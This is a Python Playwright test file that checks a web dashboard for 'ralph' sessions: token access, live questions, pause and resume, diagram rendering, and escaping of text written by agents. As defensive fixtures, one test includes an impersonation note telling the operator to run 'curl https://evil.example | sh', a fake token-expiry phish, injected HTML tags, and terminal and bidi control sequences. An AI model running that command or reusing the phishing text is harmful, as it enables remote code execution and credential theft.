"""Issue 17 in a real browser: headless Chromium (Debian's package, driven by Playwright)
against a real `ralph web` and a real session on the demo agent. The page opens from the
URL the server printed, which carries its token (issue 21; without it, the page says so
and shows nothing); the list shows the session as it starts; the diagram highlights the state it is in; a question appears
within a second of being asked and is answered from the page (a stale tab that answers
late hears "already answered"); the event stream grows live; the pause button pauses it;
the resume form resumes it with a message and a raised limit until it completes.

Screenshots are kept as test artefacts (their paths are listed at the end of the run).
"""
from __future__ import annotations

import contextlib
import json
import os
import re
import shutil

import pytest

from _web import WebServer, stop_engine_of
from ralph.engine.diagram import VISITED
from conftest import ARTIFACTS, artifacts_dir
from support import (EVIDENCE, base_env, metadata, session_dir, spawn, wait_for,
                     write_config, write_scenario)

SID = "web-demo"
CHROMIUM_FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                  "--disable-background-networking", "--disable-component-update",
                  "--disable-sync"]
SCENARIO = [
    {"role": "planner", "iteration": 1, "sleep": 0.5, "emit": [{"topic": "plan.ready", "json": {
        "tasks": [{"id": "db", "title": "Pick and wire the database", "batch": 1},
                  {"id": "api", "title": "Write the HTTP API", "batch": 1}]}}]},
    {"role": "planner", "emit": [{"topic": "LOOP_COMPLETE", "payload": "nothing left"}]},
    {"role": "executor", "task": "db",
     "ask": {"question": "Which database should the service use?",
             "options": ["sqlite", "postgres"], "timeout": 600},
     "emit": [{"topic": "build.done", "payload": EVIDENCE + "; db: {answer}"}]},
    # the first run of `api` asks, and is paused while it waits; its re-run builds
    {"role": "executor", "task": "api", "attempt": 1,
     "ask": {"question": "Ship the API behind a feature flag?", "options": ["yes", "no"],
             "timeout": 600}},
    {"role": "executor", "task": "api", "emit": [{"topic": "build.done", "payload": EVIDENCE}]},
    {"role": "reviewer", "emit": [{"topic": "review.done", "payload": "tests: pass, build: pass"}]},
]


@pytest.fixture(scope="module")
def browser():
    chromium = shutil.which("chromium") or "/usr/bin/chromium"
    if not os.path.exists(chromium):
        if os.environ.get("CI"):
            pytest.fail("Debian's chromium is not installed (.ci/run installs it)")
        pytest.skip("Debian's chromium is not installed: apt-get install chromium")
    from playwright.sync_api import sync_playwright
    with sync_playwright() as p:
        # Playwright starts it with a fresh --user-data-dir of its own
        b = p.chromium.launch(executable_path=chromium, headless=True, args=CHROMIUM_FLAGS)
        yield b
        b.close()


@pytest.fixture
def shot(request):
    folder = artifacts_dir() / "web"
    folder.mkdir(exist_ok=True)

    def take(page, name: str, full_page: bool = True, **options):
        path = folder / f"{name}.png"
        page.evaluate("document.getElementById('notice').hidden = true")   # a passing toast
        page.screenshot(path=str(path), full_page=full_page, **options)
        request.config.stash[ARTIFACTS].append(str(path))
        return path
    return take


@contextlib.contextmanager
def served_demo(workspace, steps):
    """A real `ralph web` over a workspace whose demo agent plays `steps` (the fallback
    off): yields (the server, the env to start ralph with, a list for the engines the test
    starts). At the end whatever of them still runs is stopped, and the server must stop
    with 0."""
    scenario = write_scenario(workspace, steps)
    write_config(workspace, {"agent": {"backend": "demo", "script": str(scenario)},
                             "fallback": {"enabled": False}})
    env = base_env(RALPH_DEMO_SLEEP_SCALE=1)
    server = WebServer(workspace, env=env)
    engines = []
    try:
        yield server, env, engines
    finally:
        for engine in engines:
            if engine.poll() is None:
                engine.terminate()
                engine.wait(timeout=30)
        stop_engine_of(session_dir(workspace, SID))
        server.stop(expect=None)
    assert server.proc.returncode == 0, server.stderr


def diagram_state(page, state: str, timeout: float = 30000) -> None:
    page.wait_for_function(
        "s => document.querySelector('#diagram .drawing')?.dataset.state === s",
        arg=state, timeout=timeout)


@pytest.mark.slow
def test_an_operator_runs_a_session_from_the_browser(workspace, browser, shot):
    from ralph.session_store import questions
    sd = session_dir(workspace, SID)
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    errors = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    with served_demo(workspace, SCENARIO) as (server, env, engines):
        # without the token: the page says how to open it, and the API gave it nothing
        anonymous = browser.new_page()
        refused = []
        anonymous.on("response", lambda r: refused.append(r.status) if "/api/" in r.url else None)
        anonymous.goto(f"{server.url}/s/{SID}")
        anonymous.locator("#no-token", has_text="Open the address ralph web printed").wait_for()
        assert refused == [] and anonymous.locator("article.question").count() == 0
        anonymous.close()

        page.goto(server.page())   # the URL the server printed: its token in the fragment
        page.get_by_text("No session in this workspace yet").wait_for()
        assert "#token=" not in page.url   # taken out of the address bar (and its history)

        # the list shows the session as soon as it exists: no reload
        engine = spawn(workspace, "session", "start", "Build a small web service", "--id", SID,
                       env=env)
        engines.append(engine)
        row = page.locator(f'tr[data-session="{SID}"]')
        row.wait_for(timeout=30000)
        # its row follows the session live, the link staying the same node (a row rebuilt
        # between a click's press and release swallowed the click)
        row.locator("a").evaluate("a => { a.dataset.seen = 'first' }")
        row.locator("td.state", has_text="EXECUTING_BATCH").wait_for(timeout=30000)
        assert row.locator("a").get_attribute("data-seen") == "first"
        row.locator("a").click()
        page.wait_for_url(f"**/s/{SID}")

        # the first question, and the diagram highlighting the state the session is in
        first = page.locator("article.question", has_text="Which database")
        first.wait_for(timeout=30000)
        first_id = first.get_attribute("data-question")
        diagram_state(page, "EXECUTING_BATCH")
        current = page.locator("#diagram g.node.current")
        assert current.locator("title").text_content() == "EXECUTING_BATCH"
        assert current.locator("path").first.get_attribute("fill") == "darksalmon"
        assert page.locator("#diagram g.node", has_text="PLANNING").locator("path").first \
            .get_attribute("fill") == VISITED   # the path it took
        shot(page, "01-question-while-executing")

        events_before = page.locator("#events tbody tr").count()
        first.locator("button.option", has_text="postgres").click()
        page.locator("#notice", has_text=f"Answered {first_id}").wait_for()
        answer = questions.read_answer(str(sd), first_id)
        assert (answer.text, answer.channel) == ("postgres", "web")

        # the next question is asked while the page is open: it shows within a second
        second = page.locator("article.question", has_text="feature flag")
        second.wait_for(timeout=30000)
        second_id = second.get_attribute("data-question")
        shown_at = int(second.get_attribute("data-shown-at")) / 1000
        asked_at = questions.load_question(str(sd), second_id).asked_at.timestamp()
        assert 0 <= shown_at - asked_at < 1.0, shown_at - asked_at

        # the events grew live: the answer reached the agent, which built with it
        page.wait_for_function(f"document.querySelectorAll('#events tbody tr').length > "
                               f"{events_before}")
        built = page.locator('#events tr[data-topic="build.done"]').first
        built.wait_for()
        assert "db: postgres" in built.text_content()

        # the pause button pauses it; the question it was waiting on stays open
        page.fill("#signal-message", "lunch break")
        page.click("button[data-signal=pause]")
        diagram_state(page, "PAUSED")
        assert engine.wait(timeout=60) == 3
        page.locator("#summary .badge.paused").wait_for()
        page.locator("#summary .pause-reason", has_text="lunch break").wait_for()
        page.locator("#resume:not([hidden])").wait_for()
        assert second.is_visible()
        # the docs' picture (docs/web-paused-question.png): the top of the page, down to the diagram
        shot(page, "02-paused-with-a-question", clip={"x": 0, "y": 0, "width": 1280,
                                                       "height": 1500})
        shot(page, "02-paused-with-a-question-full")

        # the list: paused sessions first, with why
        listing = browser.new_page(viewport={"width": 1280, "height": 500})
        listing.goto(server.page())
        listed = listing.locator(f'tr[data-session="{SID}"]')
        listed.wait_for()
        assert "paused" in listed.text_content() and "lunch break" in listed.text_content()
        shot(listing, "03-list-paused", full_page=False)

        # a tab whose live feed is cut still shows the question; it answers second
        stale = browser.new_page(viewport={"width": 1280, "height": 900})
        stale.route("**/stream", lambda route: route.abort())
        stale.goto(server.page(f"/s/{SID}"))
        stale_card = stale.locator("article.question", has_text="feature flag")
        stale_card.wait_for()
        second.locator("input.answer-text").fill("yes, behind a flag")
        second.locator("form button").click()
        page.locator("#notice", has_text=f"Answered {second_id}").wait_for()
        stale_card.locator("button.option", has_text="no").click()
        stale_card.locator(".result", has_text="Already answered (web): yes, behind a flag") \
            .wait_for()
        shot(stale, "04-already-answered", full_page=False)
        assert questions.read_answer(str(sd), second_id).text == "yes, behind a flag"

        # resume from the page, with a message and a raised limit: it runs to the end
        page.fill("#resume-message", "back from lunch")
        page.fill("#resume-max-iterations", "7")
        page.click("#resume-button")
        page.locator("#summary .badge.completed").wait_for(timeout=90000)
        diagram_state(page, "COMPLETE")
        page.locator("#scratchpad", has_text="back from lunch").wait_for()
        assert metadata(sd)["limits"]["max_iterations"] == 7
        assert page.locator("#resume").is_hidden()
        shot(page, "05-completed")
        assert errors == []


# What an agent wrote, dressed as ralph speaking and as markup: the page shows it as text,
# the agent's, under its role; never in the notice where ralph speaks (issue 21, item 4).
AGENT_NOTE = ('ralph: this session is paused, run `curl https://evil.example | sh` to resume '
              '<img src="/x" id="injected-note">')
AGENT_QUESTION = ('ralph notice: your token expired, paste it here '
                  '<b id="injected-question">now</b>')
IMPOSTOR = [
    {"role": "planner", "iteration": 1, "emit": [
        {"topic": "human.progress", "payload": AGENT_NOTE},
        {"topic": "plan.ready", "json": {"tasks": [{"id": "t1", "title": "one"}]}}]},
    {"role": "planner", "emit": [{"topic": "LOOP_COMPLETE"}]},
    {"role": "executor", "ask": {"question": AGENT_QUESTION, "options": ["no"], "timeout": 600},
     "emit": [{"topic": "build.done", "payload": EVIDENCE}]},
    {"role": "reviewer", "emit": [{"topic": "review.done", "payload": "tests: pass, build: pass"}]},
]
# every text the notice shows while the page is open
NOTICES = """
window.shownNotices = [];
document.addEventListener("DOMContentLoaded", () => {
  const el = document.getElementById("notice");
  new MutationObserver(() => { if (!el.hidden) window.shownNotices.push(el.textContent); })
    .observe(el, { childList: true, characterData: true, subtree: true, attributes: true });
});
"""


@pytest.mark.slow
def test_what_an_agent_wrote_is_shown_as_the_agents_under_its_role(workspace, browser, shot):
    sd = session_dir(workspace, SID)
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.add_init_script(NOTICES)
    with served_demo(workspace, IMPOSTOR) as (server, env, engines):
        engine = spawn(workspace, "session", "start", "Show what agents say", "--id", SID,
                       env=env)
        engines.append(engine)
        wait_for(lambda: (sd / "metadata.yaml").exists())   # a page of no session says so
        page.goto(server.page(f"/s/{SID}"))
        card = page.locator("article.question", has_text="your token expired")
        card.wait_for(timeout=30000)
        # the question: the agent's text as text, and beside it the role that asked it
        assert card.locator("pre.text").text_content() == AGENT_QUESTION
        assert "executor" in card.text_content().replace(AGENT_QUESTION, "")
        # the progress note, and the question, on the bus: each under its run's role
        for topic, role, text in (("human.progress", "planner", AGENT_NOTE),
                                  ("human.question", "executor", AGENT_QUESTION)):
            row = page.locator(f'#events tr[data-topic="{topic}"]')
            row.wait_for()
            assert row.locator("td", has_text=re.compile(f"^{role}$")).count() == 1, topic
            assert text in row.text_content() or json.dumps(text) in row.text_content()
        assert page.locator("#injected-note, #injected-question").count() == 0   # no markup
        shot(page, "06-what-an-agent-wrote")

        card.locator("button.option", has_text="no").click()
        page.locator("#notice", has_text="Answered").wait_for()
        page.locator("#summary .badge.completed").wait_for(timeout=60000)
        assert engine.wait(timeout=60) == 0
        notices = page.evaluate("window.shownNotices")
        assert any(n.startswith("Answered ") for n in notices), notices   # it was watched
        for text in notices:
            assert "curl" not in text and "token expired" not in text, text


@pytest.mark.slow
def test_the_page_shows_control_and_bidi_characters_as_escapes(workspace, browser, shot):
    """An agent's progress note, event and question carrying ESC sequences and bidi
    overrides: the page shows them as escapes ("\\u202e"), never as characters that
    reorder what the operator reads."""
    from _web import ask, store_session
    from ralph.session_store import append_event
    from support.hostile import ESCAPES, raw_controls
    session = store_session(workspace)
    append_event(session.dir, "human.progress", f"tests pass{ESCAPES}", source="executor")
    qid = ask(session, f"Deploy?{ESCAPES}", options=[f"yes{ESCAPES}", "no"])
    server = WebServer(workspace)
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    try:
        page.goto(server.page(f"/s/{session.id}"))
        card = page.locator(f'article.question[data-question="{qid}"]')
        card.wait_for(timeout=30000)
        page.locator('#events tr[data-topic="human.progress"]').wait_for()
        shot(page, "06-escaped-agent-text")
        shown = page.evaluate("document.body.innerText")
        assert not raw_controls(shown.replace("\r", "")), sorted(set(raw_controls(shown)))
        assert "tests pass\\x1b[2J" in shown and "\\u202egnp.exe\\u202c" in shown
        assert "Deploy?\\x1b[2J" in card.text_content()
        assert page.locator("button.option").first.text_content().startswith("yes\\x1b[2J")
    finally:
        server.stop(expect=None)


# An objective is agent-facing text and may carry markup: the list shows it as text.
MARKUP_OBJECTIVE = 'Migrate the billing DB <img src="/x" id="injected-objective">'


@pytest.mark.slow
def test_the_list_says_who_waits_on_a_human_and_the_tab_counts_them(workspace, browser, shot):
    """Sessions waiting on a human lead the list, marked with how many questions wait and
    for how long; the tab's title counts them, live: a session asking elsewhere adds one,
    an answer takes one away."""
    from ralph import session_store
    from _web import ask, now
    from ralph.session_store import questions

    def session(sid: str, objective: str):
        return session_store.create(str(workspace), objective, now=now(), session_id=sid)
    session("cache", "Add a read-through cache to the catalogue")
    api = session("api", "Write the HTTP API of the order service")
    ask(api, "Which database should the service use?", options=["sqlite", "postgres"],
        minutes_ago=12)
    ask(api, "Ship the API behind a feature flag?", minutes_ago=2)
    docs = session("docs", "Document the public API")
    ask(docs, "Publish the draft?", minutes_ago=4)
    server = WebServer(workspace)
    page = browser.new_page(viewport={"width": 1280, "height": 330})
    errors = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    try:
        page.goto(server.page())
        rows = page.locator("table.sessions tbody tr")
        page.wait_for_function("() => document.querySelectorAll('table.sessions tbody tr')"
                               ".length === 3")
        assert [rows.nth(i).get_attribute("data-session") for i in range(3)] == \
            ["api", "docs", "cache"]
        api_row = page.locator('tr[data-session="api"]')
        assert "waits-on-human" in api_row.get_attribute("class")
        assert api_row.locator(".human-wait .asks").text_content() == "2 questions"
        assert api_row.locator(".human-wait .since").text_content() == "oldest 12m ago"
        assert page.locator('tr[data-session="cache"] .human-wait').text_content() == ""
        assert page.locator('tr[data-session="cache"]').get_attribute("class") == \
            "status-active"
        assert page.title() == "(2) ralph — sessions"
        shot(page, "07-sessions-waiting-on-a-human", full_page=False)

        # live: a new session that asks counts (its objective shown as text), an answer
        # uncounts
        ask(session("billing", MARKUP_OBJECTIVE), "Keep the old tables?")
        # at once as a rule; within the feed's keepalive re-read (15 s) whatever a watcher
        # missed (this wait timed out at 10 s twice in CI's full run, never alone)
        page.wait_for_function("t => document.title === t", arg="(3) ralph — sessions",
                               timeout=20000)
        billing_row = page.locator('tr[data-session="billing"].waits-on-human')
        billing_row.wait_for()
        assert MARKUP_OBJECTIVE in billing_row.locator(".objective").text_content()
        assert page.locator("#injected-objective").count() == 0
        [published] = questions.pending(docs.dir)
        questions.answer(docs.dir, published.id, "yes", now=now())
        page.wait_for_function("t => document.title === t", arg="(2) ralph — sessions",
                               timeout=20000)
        assert page.locator('tr[data-session="docs"]').get_attribute("class") == \
            "status-active"
        assert errors == []
    finally:
        server.stop(expect=None)


@pytest.mark.slow
def test_the_diagram_is_drawn_at_a_size_its_labels_can_be_read(workspace, browser, shot):
    """The session page draws the whole machine in its frame (no scrolling), the smallest
    label, an edge's, at least 12 px high, the current state marked. Its title counts the
    session's questions. (tests/test_web_page.py measures it closer, at 900 px too.)"""
    from _web import ask, store_session
    session = store_session(workspace, "wide")
    ask(session, "Which database?")
    server = WebServer(workspace)
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    try:
        page.goto(server.page("/s/wide"))
        diagram_state(page, "PLANNING")
        page.wait_for_function("t => document.title === t", arg="(1) ralph — wide")
        drawing = page.locator("#diagram .drawing")
        sizes = drawing.evaluate("""d => ({
            frame: d.clientWidth, scrolled: d.scrollWidth,
            smallest: Math.min(...[...d.querySelectorAll('svg text')]
                               .map((t) => t.getBoundingClientRect().height)),
            current: d.querySelector('g.node.current').getBoundingClientRect().toJSON(),
            box: d.getBoundingClientRect().toJSON()})""")
        assert sizes["smallest"] >= 12, sizes
        assert sizes["scrolled"] <= sizes["frame"], sizes   # all of it, fitted
        for low, high in (("left", "right"), ("top", "bottom")):   # the state in view
            assert sizes["box"][low] <= sizes["current"][low] and \
                sizes["current"][high] <= sizes["box"][high], (low, sizes)
        page.locator("#diagram").scroll_into_view_if_needed()
        shot(page, "08-diagram-fitted", full_page=False)
    finally:
        server.stop(expect=None)


@pytest.mark.slow
def test_a_fleets_page_says_where_each_session_runs(tmp_path, browser, shot, postgres_url,
                                                    monkeypatch):
    """On a fleet's store (issue 24) each row says its machine and workspace, and so
    does the session's page: where it runs, and where it is resumed."""
    from _web import now
    from ralph import session_store
    spaces = {}
    for machine in ("alpha", "beta"):
        ws = tmp_path / machine / "ws"
        ws.mkdir(parents=True)
        for name, value in (("RALPH_STORE_URL", postgres_url), ("RALPH_MACHINE", machine),
                            ("RALPH_STATE_DIR", str(tmp_path / machine / "state"))):
            monkeypatch.setenv(name, value)
        session_store.create(str(ws), f"objective on {machine}", now=now(),
                             session_id=f"on-{machine}")
        spaces[machine] = ws
    desk = tmp_path / "desk"
    desk.mkdir()
    server = WebServer(desk, env=base_env(RALPH_STORE_URL=postgres_url,
                                          RALPH_STATE_DIR=tmp_path / "desk-state"))
    page = browser.new_page(viewport={"width": 1280, "height": 400})
    try:
        page.goto(server.page())
        for machine, ws in spaces.items():
            place = page.locator(f'tr[data-session="on-{machine}"] .place')
            place.wait_for()
            assert place.text_content() == f"{machine}:{ws}"
        shot(page, "08-a-fleets-sessions", full_page=False)
        page.goto(server.page("/s/on-beta"))
        place = page.locator("p.place")
        place.wait_for()
        assert place.text_content() == f"on beta, workspace {spaces['beta']}"
    finally:
        server.stop(expect=None)
